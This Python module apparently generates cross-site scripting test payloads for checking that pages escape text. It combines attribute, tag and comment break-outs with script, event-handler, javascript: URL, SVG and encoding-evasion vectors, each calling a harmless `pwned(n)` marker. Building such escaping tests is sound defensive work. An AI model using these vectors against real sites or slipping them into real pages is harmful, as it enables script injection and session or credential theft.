"""Text that would run in a browser if any page forgot to treat it as text. Every payload calls `pwned` with its number.

Made from parts, so that every way of beginning meets every way of running: out of an attribute, out of a tag, out of a
comment, a script or a title; by an element, an event, an address; in odd letter case, with odd spaces, half encoded.
"""

from __future__ import annotations

from collections.abc import Iterable
from itertools import product

_OPENINGS = (
    "",
    '">',
    "'>",
    "`>",
    "</title>",
    "</textarea>",
    "</script>",
    "-->",
    "]]>",
    "</svg>",
    "</time>",
    "</option>",
)
_ELEMENTS = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script src=data:,{run}></script>",
    "<script src=//127.0.0.1:1/{run}></script>",
    "<img src=x onerror={run}>",
    "<img/src=x/onerror={run}>",
    '<img src=x onerror="{run}">',
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{run}><text>x</text></a></svg>",
    "<math><mtext><script>{run}</script></mtext></math>",
    "<body onload={run}>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<link rel=stylesheet href=data:text/css,*{{x:expression({run})}}>",
    "<style>@import 'data:text/css,x';</style><img src=x onerror={run}>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href=javascript:{run}//>",
    "<form action=javascript:{run}><button autofocus>x</button></form>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<marquee onstart={run}>x</marquee>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
)
_INSIDE = (
    '" onmouseover="{run}" x="',
    "' onfocus='{run}' autofocus x='",
    '" autofocus onfocus={run} x="',
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    " javascript:{run}",
    "java\tscript:{run}",
    "data:text/html,<script>{run}</script>",
    "vbscript:{run}",
    "{{{{ {run} }}}}",
    "${{{run}}}",
    "{{% raw %}}{run}",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "\\x3cscript\\x3e{run}\\x3c/script\\x3e",
    "\\u003cscript\\u003e{run}",
    "%3Cscript%3E{run}%3C/script%3E",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "<scr\u200bipt>{run}</scr\u200bipt>",
    "\u202e<script>{run}</script>",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "';{run};//",
    '";{run};//',
    "</script><script>{run}//",
    "<!--><script>{run}</script>-->",
    "<![CDATA[<script>{run}</script>]]>",
    "<%={run}%>",
    "<?xml version='1.0'?><script>{run}</script>",
    "x' style='background:url(javascript:{run})",
    'https://example.org/"onclick="{run}',
    "https://example.org/'><script>{run}</script>",
    "<a href='https://example.org' onclick={run}>x</a>",
)


def packed(texts: Iterable[str], longest: int) -> list[str]:
    """Pack several payloads into a text, as many as fit, for pages of which there is one for each."""
    packs = [""]
    for text in texts:
        if len(packs[-1]) + len(text) > longest:
            packs.append("")
        packs[-1] += text
    return packs


def payloads() -> list[str]:
    made = ["".join(parts) for parts in product(_OPENINGS[:6], _ELEMENTS)]
    made += [f"{opening}{_ELEMENTS[index % len(_ELEMENTS)]}" for index, opening in enumerate(_OPENINGS[6:] * 4)]
    made += _INSIDE
    return [text.format(run=f"pwned({number})") for number, text in enumerate(dict.fromkeys(made))]
